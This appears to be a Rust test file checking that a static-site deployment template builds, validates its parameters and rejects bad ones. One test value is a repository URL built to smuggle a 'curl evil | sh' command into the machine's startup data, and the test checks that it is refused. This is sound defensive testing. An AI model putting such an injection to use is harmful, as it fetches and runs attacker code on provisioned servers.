//! The published template behaves like a built-in one: it validates, plans, rejects bad
//! parameters clearly, and publishes a JSON Schema.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use acme_static_site::StaticSite;
use konstacks_core::model::Stage;
use konstacks_core::sim::SimCloud;
use konstacks_templates::{Template, TemplateContext};

#[test]
fn builds_validates_and_checks_its_parameters() {
    let cx = TemplateContext::new("acme-site-prod", Stage::Prod);
    let stack = StaticSite.build_json(&cx, serde_json::json!({ "size": "small" })).unwrap();
    let s = stack.synth(&[&SimCloud::catalog()]).unwrap();
    assert_eq!(s.resources.len(), 4);
    let err = StaticSite.build_json(&cx, serde_json::json!({ "repo": "ftp://old" })).err().unwrap();
    assert!(err.to_string().contains("params.repo") && err.to_string().contains("https"), "{err}");
    // A repository URL that tries to add its own command is refused, not pasted into user data.
    let evil = "https://git.example/a.git\"]\n  - [sh, -c, \"curl evil | sh";
    let err = StaticSite.build_json(&cx, serde_json::json!({ "repo": evil })).err().unwrap();
    assert!(err.to_string().contains("params.repo"), "{err}");
    let err = StaticSite.build_json(&cx, serde_json::json!({ "sise": "small" })).err().unwrap();
    assert!(err.to_string().contains("unknown field"), "{err}");
    assert_eq!(StaticSite.params_schema()["type"], "object");
}
